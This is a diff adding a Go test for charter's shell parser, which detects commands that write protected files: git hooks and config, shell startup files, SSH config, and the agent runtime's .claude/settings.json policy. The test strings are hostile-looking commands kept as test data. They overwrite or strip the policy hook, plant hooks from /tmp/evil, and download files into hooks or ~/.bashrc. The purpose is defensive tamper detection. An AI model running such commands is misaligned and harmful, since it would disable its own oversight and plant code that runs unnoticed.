@@ -1,0 +1,90 @@
+package shell_test
+
+import (
+	"testing"
+
+	"github.com/charter-dev/charter/internal/enforce/shell"
+)
+
+// TestProtectedChanges: a command that writes a file which makes code run
+// when an everyday command runs (.git/hooks/pre-commit, .git/config,
+// .gitattributes), or which holds the runtime's own policy
+// (.claude/settings.json holds charter's hook), changes a protected file,
+// however it writes it: a redirection, tee, cp, mv, ln, sed -i, chmod, a
+// PowerShell cmdlet, a name relative to a folder an earlier cd entered;
+// entering such a folder (a later call's bare names land there) counts
+// too. Commands that write other files, and that only read protected
+// ones, change none.
+func TestProtectedChanges(t *testing.T) {
+	for _, src := range []string{
+		`echo '{}' > .claude/settings.json`,
+		`cat > .claude/settings.local.json <<EOF
+{}
+EOF`,
+		`printf x >> .git/hooks/pre-commit`,
+		`echo x | tee -a .git/config`,
+		`cp /tmp/evil .git/hooks/post-checkout`,
+		`cp /tmp/settings.json .claude/`,
+		`mv .claude/settings.json /tmp/x`,
+		`rm -f .claude/settings.json`,
+		`ln -s /tmp/evil .git/hooks/pre-commit`,
+		`chmod +x .git/hooks/pre-commit`,
+		`sed -i 's/charter/true/' .claude/settings.json`,
+		`sed -i.bak -e 's/x/y/' ~/.claude/settings.json`,
+		`echo '* filter=x' >> .gitattributes`,
+		`echo 'export X' >> ~/.bashrc`,
+		`echo 'eval x' > .envrc`,
+		`echo '{}' > .mcp.json`,
+		`echo 'Host *' >> ~/.ssh/config`,
+		`cd .claude && echo '{}' > settings.json`,
+		`cd .git/hooks; cat /tmp/x > pre-commit`,
+		`cd "$D" && echo x > settings.json`,
+		`cd "$D" && echo x > pre-push`,
+		`cd .claude`,
+		`pushd ~/.ssh`,
+		`echo x > "$F"`,
+		`echo x > .CLAUDE/Settings.JSON`,
+		`curl -o .git/hooks/pre-commit https://x`,
+		`wget -O ~/.bashrc https://x`,
+		`dd if=/tmp/x of=.git/config`,
+		`sudo tee /etc/profile.d/../../home/u/.profile`,
+		`Set-Content -Path .claude/settings.json -Value '{}'`,
+		`sc .claude\settings.json '{}'`,
+		`Remove-Item .claude/settings.local.json`,
+		`bash -c 'echo {} > .claude/settings.json'`,
+		`git -C sub status && echo x > sub/.git/config`,
+		`echo 'gitdir: /tmp/evil' > sub/.git`,
+	} {
+		cs, err := shell.Parse(src)
+		if err != nil {
+			t.Errorf("%s: %v", src, err)
+			continue
+		}
+		found := false
+		for _, c := range cs {
+			for _, p := range c.Protected() {
+				found = found || p.Why != ""
+			}
+		}
+		if !found {
+			t.Errorf("%s: changes no protected file: %+v", src, cs)
+		}
+	}
+	for _, src := range []string{
+		`cat .claude/settings.json`, `git diff .gitattributes`, `echo x > out.txt`, `cp .git/config /tmp/backup`,
+		`ls .git/hooks`, `echo x > settings.json`, `echo x > config`, `sed -n 1p .git/config`, `sed 's/a/b/' .bashrc > out`,
+		`cd sub && echo x > settings.json`, `cd /tmp && echo x > log`, `go test ./... > /dev/null 2>&1`, `echo x >&2`,
+		`chmod +x script.sh`, `rm -rf build`, `git status`, `git log -p -- .git/config`,
+	} {
+		cs, err := shell.Parse(src)
+		if err != nil {
+			t.Errorf("%s: %v", src, err)
+			continue
+		}
+		for _, c := range cs {
+			if p := c.Protected(); len(p) > 0 {
+				t.Errorf("%s: %+v", src, p)
+			}
+		}
+	}
+}
